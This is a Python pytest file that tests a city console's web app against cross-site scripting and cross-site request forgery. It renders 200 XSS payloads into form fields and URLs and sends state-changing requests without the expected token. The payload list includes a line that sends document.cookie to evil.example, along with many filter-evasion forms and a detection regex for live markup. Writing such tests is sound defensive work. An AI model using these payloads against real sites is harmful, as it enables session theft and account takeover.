"""A7: what people write is never markup on a page, and no act of the console goes without its token."""

import hashlib
import html
import itertools
import re
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
from sqlalchemy import MetaData, select
from support_identity import CITY

from citybrain.core.schemas import Actor, NewDepartment, NewGrant
from citybrain.core.schemas.bills import NewPrice, NewRating
from citybrain.core.schemas.grants import NewGrantRequest, NewSuspension
from citybrain.platform.api.declared import declared
from citybrain.platform.wiring import SYSTEM

SAFE = {"GET", "HEAD"}
SCRIPTS = (
    "alert(1)", "alert`1`", "fetch('//evil.example/'+document.cookie)", "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
)  # fmt: skip
FORMS = (
    "<script>{}</script>", '"><script>{}</script>', "'><script>{}</script>", "</script><script>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror="{}">', "' onmouseover='{}' x='", '" autofocus onfocus="{}" x="',
    "<svg onload={}>", "<svg><script>{}</script></svg>", '<iframe srcdoc="<script>{}</script>">', "<body onload={}>",
    "<details open ontoggle={}>", '<a href="javascript:{}">x</a>', "<math><mtext></table><img src=x onerror={}>",
    "<textarea></textarea><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "<!--><script>{}</script>-->", "<style>@import 'x'</style><script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example>{}</SCRIPT>", "<input onfocus={} autofocus>", "<form action=javascript:{}><button>x",
    '<object data="javascript:{}">', "<embed src=javascript:{}>", "<link rel=stylesheet href=javascript:{}>",
    "<base href=//evil.example/><x>{}", "<button hx-get=/logout hx-trigger=load>{}</button>", '<div hx-on:load="{}">',
    "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<x data-send=/api/v1/prices>{}", "\u2028<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">',
)  # fmt: skip
PAYLOADS = [form.format(script) for form, script in itertools.product(FORMS, SCRIPTS)]
PAGES = (
    "/", "/overview/lately", "/algorithms", "/algorithms/tourism-flow", "/access", "/access/grants/{grant}",
    "/calls", "/calls/{call}", "/limits", "/bills/tourism/{month}", "/bills/prices", "/scenarios",
    "/scenarios/scenic-crowd", "/departments", "/departments/jobs", "/notices", "/account", "/users",
)  # fmt: skip
ECHOES = (
    "/algorithms?q={}", "/algorithms/{}", "/access?algorithm={}", "/access/grants/{}", "/calls?id={}",
    "/calls?algorithm={}", "/calls/{}", "/bills?month={}", "/bills/tourism/{}", "/bills/{}/2026-11",
    "/scenarios/{}", "/login?next={}", "/departments?span={}", "/overview/now?algorithm={}",
)  # fmt: skip
LIVE = re.compile(
    r"<script(?! src=\"/static/)|\s(?:on[a-z]+|style|srcdoc|hx-on[^=\s>]*)\s*=\s*[^\s>]"
    r"|(?:href|src|action|data|formaction)\s*=\s*[\"']?\s*(?:javascript:|//)",
    re.I,
)


def tags(text):
    """All tags of a page with quotes read as a browser does, so that text is no tag."""
    return re.findall(r"<(?:!--.*?--|/?[a-zA-Z](?:[^>\"']|\"[^\"]*\"|'[^']*')*)>", text, re.S)


def shape(text):
    """The names of a page's elements and attributes, in order: what text in it cannot change."""
    found = []
    for tag in tags(text):
        bare = re.sub(r"\"[^\"]*\"|'[^']*'", "", tag)
        found.append(re.sub(r"\s+", " ", bare))
    return found


@pytest.fixture(scope="module")
def enter(world):
    def signed_in(role, department="tourism", **headers):
        client = world.client()
        form = {"key": world.secret(role, department)}
        answer = client.post("/login", data=form, headers={"origin": CITY})
        assert answer.status_code == 303
        client.headers.update(headers)
        return client

    return signed_in


def write(world, text):
    """Put a text into every field that people fill in; what has to be undone for the next."""
    plane, truths, mine = world.plane, world.truths, world.objects["tourism"]
    actor = Actor(key="k-evil", department="tourism", role="developer", user="evil")
    new = NewGrantRequest(
        department="tourism", algorithm="health-flow", purpose="research", reason=text[:1000],
        basis=text[:500], scenario=text[:63],
    )  # fmt: skip
    asked = plane.requests.ask(new, actor)
    refused = plane.requests.ask(new.model_copy(update={"purpose": "other"}), actor)
    plane.requests.refuse(refused.id, text, actor)
    stops = [
        plane.controls.suspend(NewSuspension(kind=kind, target=target, reason=text), actor)
        for kind, target in (("algorithm", "tourism-flow"), ("grant", mine["grant"]))
    ]
    plane.operations.rate(mine["call"], "", NewRating(stars=3, reason=text), actor)
    plane.bills.set_price(NewPrice(yuan=0.1, note=text[:500]), actor)
    grant = truths.people.add_grant(
        NewGrant(department="tourism", algorithm="health-flow", basis=text[:500], scenario=text[:63]),
        actor,
    )  # fmt: skip
    return asked, stops, grant


def undo(world, written):
    asked, stops, grant = written
    world.plane.requests.withdraw(asked.id, SYSTEM)
    for stop in stops:
        world.plane.controls.lift(stop.id, SYSTEM)
    world.truths.people.revoke_grant(grant.id, SYSTEM)


def test_a7_what_people_write_is_text_on_every_page_and_never_markup(world, enter, full):
    payloads = PAYLOADS if full else PAYLOADS[:: len(PAYLOADS) // 8]
    assert len(PAYLOADS) == 200 == len(set(PAYLOADS))
    clients = [enter("developer", **{"accept-language": "en"}), enter("admin")]
    mine, month = world.objects["tourism"], f"{datetime.now(UTC):%Y-%m}"
    world.truths.people.add_department(
        NewDepartment(name="evil", title_zh=PAYLOADS[5][:80], title_en=PAYLOADS[5][:80]), SYSTEM
    )
    world.key("tourism", note=PAYLOADS[0])
    looked, shown, live = 0, 0, []
    for payload in payloads:
        written = write(world, payload)
        pages = [p.format(grant=mine["grant"], call=mine["call"], month=month) for p in PAGES]
        pages += [echo.format(quote(payload, safe="")) for echo in ECHOES]
        for client, path in itertools.product(clients, pages):
            answer = client.get(path)
            assert answer.status_code < 500, (path, answer.text[:300])
            looked += 1
            shown += (
                html.escape(payload).replace("&#x27;", "&#39;").replace("&quot;", "&#34;")
                in answer.text
            )
            if answer.headers.get("content-type", "").startswith("text/html"):
                live += [
                    (path, tag) for tag in tags(answer.text) if LIVE.search(tag_without_text(tag))
                ]
                risky = "<" in payload and not payload.startswith("&lt;")
                if risky and payload in answer.text:
                    live.append((path, payload))
        undo(world, written)
    print(
        f"\nA7: {len(payloads)} payloads in {looked} pages, shown as text in {shown}; {len(live)} as markup"
    )
    assert shown > len(payloads) * 8, "they were on the pages at all"
    assert live == []


def tag_without_text(tag):
    """A tag whose attribute values hold no text of people's: only addresses are left in."""
    keep = r"(?:href|src|action|data|formaction|srcdoc)"
    return re.sub(rf"(?<!\w)(?!{keep}=)([\w:-]+)=(\"[^\"]*\"|'[^']*')", r"\1", tag)


def test_a7_the_elements_of_a_page_are_the_same_whatever_is_written_into_it(world, enter, full):
    client, mine = enter("developer"), world.objects["tourism"]
    pages = (
        "/access",
        f"/access/grants/{mine['grant']}",
        "/calls",
        f"/calls/{mine['call']}",
        "/notices",
    )
    shapes = []
    for payload in ["plain", *(PAYLOADS if full else PAYLOADS[2::67])]:
        world.plane.notices.read_all("tourism")
        with world.truths.database.write() as session:
            tables = MetaData()
            tables.reflect(session.connection(), only=["notices", "grant_requests", "grants"])
            session.execute(tables.tables["notices"].delete())
            requests, grants = tables.tables["grant_requests"], tables.tables["grants"]
            session.execute(requests.delete().where(requests.c.asked_by == "evil"))
            session.execute(grants.delete().where(grants.c.granted_by == "k-evil"))
        written = write(world, payload)
        shapes.append([shape(client.get(page).text) for page in pages])
        undo(world, written)
    assert all(found == shapes[0] for found in shapes[1:])


def state_of(world):
    """A digest of every table."""
    tables, found = MetaData(), hashlib.sha256()
    engine = world.truths.database.engine
    tables.reflect(engine)
    with engine.connect() as connection:
        for table in tables.sorted_tables:
            for row in connection.execute(select(table).order_by(*table.primary_key.columns)):
                found.update(repr((table.name, tuple(row))).encode())
    return found.hexdigest()


FOREIGN = {
    "no header": {},
    "another site": {"origin": "https://evil.example", "sec-fetch-site": "cross-site"},
    "a subdomain": {"origin": "http://evil.city.test", "sec-fetch-site": "same-site"},
    "a plain form": {"content-type": "application/x-www-form-urlencoded", "origin": "null"},
    "text": {"content-type": "text/plain", "referer": f"{CITY}/"},
    "another's header": {"x-requested-with": "XMLHttpRequest"},
}  # fmt: skip


@pytest.mark.parametrize("role", ["admin", "developer"])
def test_a7_no_state_changes_without_the_token_that_only_our_pages_send(world, enter, role):
    client = enter(role)
    things = {
        kind: str(thing) for kind, thing in world.objects["tourism"].items()
    } | {"promotion": world.objects["health"]["promotion"]}  # fmt: skip
    names = {
        "name": things["algorithm"], "version": "1", "target": "champion", "rule": "self",
        "department": "tourism", "month": "2026-09", "request_id": things["request"],
        "grant_id": things["grant"], "job_id": things["job"], "key_id": things["key"],
        "promotion_id": things["promotion"], "evaluation_id": things["evaluation"], "notice_id": "1",
    }  # fmt: skip
    asked, wrong = 0, []
    before = state_of(world)
    for route in declared(world.app):
        for method in route.methods - SAFE:
            path = re.sub(
                r"\{([a-z_]+)(?::path)?\}", lambda m: names.get(m[1], "none-such"), route.path
            )
            for name, headers in FOREIGN.items():
                body = b'{"reason":"x","department":"tourism","answer":"x","version":1}'
                answer = client.request(method, path, headers=headers, content=body)
                asked += 1
                if answer.status_code not in (401, 403):
                    wrong.append((method, path, name, answer.status_code))
    assert wrong == []
    assert asked > 300
    assert state_of(world) == before
    print(f"\nA7: {asked} acts as {role} without the token, 0 let through, no table changed")


def test_a7_the_same_acts_with_the_token_do_change_something(world, enter):
    client, before = enter("admin"), state_of(world)
    new = {"department": "tourism", "amount": 5}
    answer = client.put("/api/v1/quotas", json=new, headers={"x-requested-with": "citybrain"})
    assert answer.status_code == 201
    assert state_of(world) != before
